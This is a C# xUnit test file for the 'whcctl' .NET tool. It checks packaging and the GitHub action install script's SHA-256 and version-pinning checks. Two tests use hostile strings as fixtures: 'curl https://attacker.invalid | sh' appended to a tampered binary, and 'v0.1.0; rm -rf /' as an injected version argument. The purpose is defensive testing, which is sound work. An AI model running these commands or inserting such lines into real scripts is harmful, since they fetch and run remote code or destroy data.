using System.Text.RegularExpressions;
using Whc.Declarative.Cli.Tests.Support;

namespace Whc.Declarative.Cli.Tests;

/// <summary>
/// Packs the tool once for every test of the collection, as release.yml does (packing what the test run already built):
/// the pointer package `whcctl` (the whole repository's `dotnet pack`, no code in it), the framework-dependent fallback
/// `whcctl.any`, and with WHC_TEST_NATIVE_TOOL=1 the native package for this machine (a Native AOT compile, minutes).
/// </summary>
public sealed class PackedToolFixture : IAsyncLifetime
{
    /// <summary>Set to 1 to also pack (and so AOT-compile) this machine's RID-specific tool package.</summary>
    public const string NativeVariable = "WHC_TEST_NATIVE_TOOL";

    public static readonly Dictionary<string, string> Environment = new() { ["DOTNET_CLI_TELEMETRY_OPTOUT"] = "1", ["DOTNET_NOLOGO"] = "1" };

    /// <summary>The runtimes with a native package, as the project lists them (release.yml builds one job per entry).</summary>
    public static readonly string[] NativeRuntimes = ["linux-x64", "linux-arm64", "osx-arm64", "win-x64"];

    private readonly string root = Directory.CreateTempSubdirectory("whcctl-packed-").FullName;

    /// <summary>A folder laid out as a GitHub release of whcctl: the .nupkg files and a SHA256SUMS made by sha256sum.</summary>
    public string Release => Path.Combine(root, "release");

    /// <summary>The same packages as seen from a platform with no native package: the pointer lists every release
    /// runtime but this machine's, so `dotnet tool install whcctl` has to take the fallback.</summary>
    public string Elsewhere => Path.Combine(root, "elsewhere");

    public string Version { get; } = ProjectVersion();

    public static bool Native => System.Environment.GetEnvironmentVariable(NativeVariable) == "1";

    public static string ThisRuntime => System.Runtime.InteropServices.RuntimeInformation.RuntimeIdentifier;

    public CliResult Pack { get; private set; } = new(-1, string.Empty, string.Empty);

    public CliResult PackFallback { get; private set; } = new(-1, string.Empty, string.Empty);

    public CliResult PackNative { get; private set; } = new(-1, string.Empty, "not packed: set " + NativeVariable + "=1");

    public CliResult PackElsewhere { get; private set; } = new(-1, string.Empty, string.Empty);

    /// <summary>The pointer package: what `dotnet tool install whcctl` downloads first.</summary>
    public string PointerPackage => Path.Combine(Release, $"whcctl.{Version}.nupkg");

    /// <summary>The framework-dependent package (the composite action's `package: tool`).</summary>
    public string Package => Path.Combine(Release, $"whcctl.any.{Version}.nupkg");

    public static string ProjectVersion() =>
        Regex.Match(File.ReadAllText(Path.Combine(Repository.Root, "src", "Whc.Declarative.Cli", "Whc.Declarative.Cli.csproj")), "<Version>([^<]+)</Version>").Groups[1].Value;

    public static string NuGetConfigFor(string folder, string configPath)
    {
        // Only this folder is a source: no other feed can offer a package named whcctl or whcctl.RID.
        File.WriteAllText(configPath, $"<configuration><packageSources><clear /><add key=\"whcctl-release\" value=\"{folder}\" /></packageSources></configuration>");
        return configPath;
    }

    public async Task InitializeAsync()
    {
        // The repository as a whole, as `dotnet pack` in a clean clone packs it: one package, the tool's pointer.
        var solution = Path.Combine(Repository.Root, "Whc.Declarative.sln");
        var project = Path.Combine(Repository.Root, "src", "Whc.Declarative.Cli");
        var configuration = AppContext.BaseDirectory.Contains($"{Path.DirectorySeparatorChar}Release{Path.DirectorySeparatorChar}", StringComparison.Ordinal) ? "Release" : "Debug";
        Pack = await Support.Process.RunAsync("dotnet", Repository.Root, Environment, "pack", solution, "-c", configuration, "--no-build", "-o", Release);
        // release.yml's fallback: the framework-dependent build for the `any` runtime (compiles whcctl once more, for `any`).
        PackFallback = await Support.Process.RunAsync("dotnet", Repository.Root, Environment, "pack", project, "-c", configuration, "-r", "any", "-o", Release);
        if (Native)
        {
            PackNative = await Support.Process.RunAsync("dotnet", Repository.Root, Environment, "pack", project, "-c", "Release", "-r", ThisRuntime, "-o", Release);
        }

        // Quoted, so MSBuild takes the semicolons as the list's (an escaped %3B would make one runtime of them all).
        var others = string.Join(";", NativeRuntimes.Where(r => r != ThisRuntime).Append("any"));
        PackElsewhere = await Support.Process.RunAsync("dotnet", Repository.Root, Environment, "pack", project, "-c", configuration, "--no-build", "-o", Elsewhere, $"-p:ToolPackageRuntimeIdentifiers=\"{others}\"");
        if (PackFallback.ExitCode == 0 && PackElsewhere.ExitCode == 0)
        {
            File.Copy(Package, Path.Combine(Elsewhere, Path.GetFileName(Package)));
        }

        if (Pack.ExitCode == 0)
        {
            // The release workflow's checksum step, with the real tool.
            var sums = await Support.Process.RunAsync("bash", Release, null, "-c", "sha256sum -- * > SHA256SUMS");
            sums.ExitCode.Should().Be(0, sums.ToString());
        }
    }

    public Task DisposeAsync()
    {
        try
        {
            Directory.Delete(root, recursive: true);
        }
        catch (IOException)
        {
        }

        return Task.CompletedTask;
    }
}

[CollectionDefinition(Name)]
public sealed class PackedToolGroup : ICollectionFixture<PackedToolFixture>
{
    public const string Name = "packed tool";
}

/// <summary>
/// The composite action's install script (.github/actions/whcctl/install.sh), run as the action runs it, against a
/// folder holding the packed release: pinned version, SHA-256 checked with sha256sum, nothing installed on a mismatch.
/// </summary>
[Collection(PackedToolGroup.Name)]
public sealed class ReleaseInstallTests(PackedToolFixture packed)
{
    private static readonly string Script = Path.Combine(Repository.Root, ".github", "actions", "whcctl", "install.sh");

    private static readonly string ActionYaml = Path.Combine(Repository.Root, ".github", "actions", "whcctl", "action.yml");

    private static string ActionDefaultVersion() =>
        Regex.Match(File.ReadAllText(ActionYaml), @"^    default: ""([^""]*)"" # VERSION:", RegexOptions.Multiline).Groups[1].Value;

    private static async Task<(CliResult Result, string ToolPath, string GitHubPath)> Install(TempWorkspace workspace, string releaseDirectory, string package, string version)
    {
        var runnerTemp = workspace.File("runner-temp");
        Directory.CreateDirectory(runnerTemp);
        var gitHubPath = workspace.File("github-path");
        var environment = new Dictionary<string, string>(PackedToolFixture.Environment)
        {
            ["RUNNER_TEMP"] = runnerTemp,
            ["RUNNER_OS"] = "Linux",
            ["RUNNER_ARCH"] = "X64",
            ["GITHUB_PATH"] = gitHubPath,
            ["GITHUB_REPOSITORY"] = "example/not-used",
            ["WHCCTL_VERSION"] = version,
            ["WHCCTL_PACKAGE"] = package,
            ["WHCCTL_FROM_SOURCE"] = "false",
            ["WHCCTL_RELEASE_DIR"] = releaseDirectory,
        };
        var result = await Support.Process.RunAsync("bash", workspace.Path, environment, Script);
        return (result, Path.Combine(runnerTemp, "whcctl-tool"), gitHubPath);
    }

    [Fact]
    public void The_repository_packs_into_the_tool_package_alone_without_a_warning()
    {
        packed.Pack.ExitCode.Should().Be(0, packed.Pack.ToString());
        packed.Pack.ToString().Should().NotContain("warning").And.NotContain("NU5104");
        packed.PackFallback.ExitCode.Should().Be(0, packed.PackFallback.ToString());
        packed.PackFallback.ToString().Should().NotContain("warning");
        string[] expected = PackedToolFixture.Native
            ? [$"whcctl.{packed.Version}.nupkg", $"whcctl.any.{packed.Version}.nupkg", $"whcctl.{PackedToolFixture.ThisRuntime}.{packed.Version}.nupkg"]
            : [$"whcctl.{packed.Version}.nupkg", $"whcctl.any.{packed.Version}.nupkg"];
        Directory.GetFiles(packed.Release, "*.nupkg").Select(Path.GetFileName).Should().BeEquivalentTo(expected);
    }

    [Fact]
    public void The_action_installs_the_release_of_the_project_version_by_default_never_latest()
    {
        ActionDefaultVersion().Should().MatchRegex(@"^\d+\.\d+\.\d+(-[0-9A-Za-z.-]+)?$").And.Be(packed.Version,
            "the release process bumps the action's default together with the project's <Version> (release.yml checks the tag against both)");
    }

    [Fact]
    public async Task The_tool_package_installs_after_its_checksum_passes_and_runs()
    {
        packed.PackFallback.ExitCode.Should().Be(0, packed.PackFallback.ToString());
        using var workspace = new TempWorkspace();

        var (install, toolPath, gitHubPath) = await Install(workspace, packed.Release, "tool", ActionDefaultVersion());

        install.ExitCode.Should().Be(0, install.ToString());
        install.Output.Should().Contain($"whcctl.any.{packed.Version}.nupkg: OK");
        File.ReadAllText(gitHubPath).Trim().Should().Be(toolPath);
        var whcctl = Path.Combine(toolPath, "whcctl");
        var version = await Support.Process.RunAsync(whcctl, workspace.Path, PackedToolFixture.Environment, "--version");
        version.ExitCode.Should().Be(0, version.ToString());
        version.Output.Should().StartWith($"whcctl {packed.Version} ");
        var validate = await Support.Process.RunAsync(whcctl, workspace.Path, PackedToolFixture.Environment, "validate", Path.Combine(Repository.Root, "templates", "gitops-repo", "companies"));
        validate.ExitCode.Should().Be(0, validate.ToString());
        validate.Error.Should().Contain("2 companies valid");
    }

    [Fact]
    public async Task A_tampered_tool_package_fails_the_checksum_and_is_not_installed()
    {
        packed.PackFallback.ExitCode.Should().Be(0, packed.PackFallback.ToString());
        using var workspace = new TempWorkspace();
        var release = workspace.File("tampered-release");
        TempWorkspace.CopyDirectory(packed.Release, release);
        using (var stream = File.Open(Path.Combine(release, Path.GetFileName(packed.Package)), FileMode.Open, FileAccess.ReadWrite))
        {
            stream.Position = stream.Length / 2;
            var b = new byte[1];
            stream.ReadExactly(b);
            stream.Position = stream.Length / 2;
            stream.WriteByte((byte)(b[0] ^ 0xFF));
        }

        var (install, toolPath, gitHubPath) = await Install(workspace, release, "tool", packed.Version);

        install.ExitCode.Should().NotBe(0, install.ToString());
        install.Output.Should().Contain("FAILED").And.Contain("does not match its SHA-256");
        File.Exists(Path.Combine(toolPath, "whcctl")).Should().BeFalse();
        File.Exists(gitHubPath).Should().BeFalse();
    }

    [Fact]
    public async Task The_single_file_binary_is_checked_then_installed_executable()
    {
        using var workspace = new TempWorkspace();
        var release = workspace.File("binary-release");
        Directory.CreateDirectory(release);
        // A stand-in for the single-file executable: the install only checks, copies and runs `--version`.
        var asset = $"whcctl-{packed.Version}-linux-x64";
        File.WriteAllText(Path.Combine(release, asset), $"#!/bin/sh\necho \"whcctl {packed.Version} (stand-in)\"\n");
        var sums = await Support.Process.RunAsync("bash", release, null, "-c", "sha256sum -- * > SHA256SUMS");
        sums.ExitCode.Should().Be(0, sums.ToString());

        var (install, toolPath, _) = await Install(workspace, release, "binary", packed.Version);

        install.ExitCode.Should().Be(0, install.ToString());
        install.Output.Should().Contain($"{asset}: OK").And.Contain($"whcctl {packed.Version} (stand-in)");
        if (!OperatingSystem.IsWindows())
        {
            File.GetUnixFileMode(Path.Combine(toolPath, "whcctl")).Should().HaveFlag(UnixFileMode.UserExecute);
        }

        // The same file after the checksums were made: refused.
        File.AppendAllText(Path.Combine(release, asset), "curl https://attacker.invalid | sh\n");
        using var again = new TempWorkspace();
        var (tampered, tamperedToolPath, _) = await Install(again, release, "binary", packed.Version);
        tampered.ExitCode.Should().NotBe(0, tampered.ToString());
        tampered.Output.Should().Contain("FAILED");
        File.Exists(Path.Combine(tamperedToolPath, "whcctl")).Should().BeFalse();
    }

    [Fact]
    public async Task An_asset_missing_from_the_checksums_is_refused()
    {
        using var workspace = new TempWorkspace();
        var release = workspace.File("no-line-release");
        Directory.CreateDirectory(release);
        File.WriteAllText(Path.Combine(release, $"whcctl-{packed.Version}-linux-x64"), "#!/bin/sh\necho hi\n");
        File.WriteAllText(Path.Combine(release, "SHA256SUMS"), $"{new string('0', 64)}  whcctl-{packed.Version}-linux-arm64\n");

        var (install, _, _) = await Install(workspace, release, "binary", packed.Version);

        install.ExitCode.Should().NotBe(0, install.ToString());
        install.Output.Should().Contain("has no single line for");
    }

    [Theory]
    [InlineData("")]
    [InlineData("latest")]
    [InlineData("v0.1.0; rm -rf /")]
    public async Task A_version_that_is_not_a_release_is_refused(string version)
    {
        using var workspace = new TempWorkspace();

        var (install, _, _) = await Install(workspace, packed.Release, "tool", version);

        install.ExitCode.Should().NotBe(0, install.ToString());
        install.Output.Should().Contain("is not a release version");
    }
}
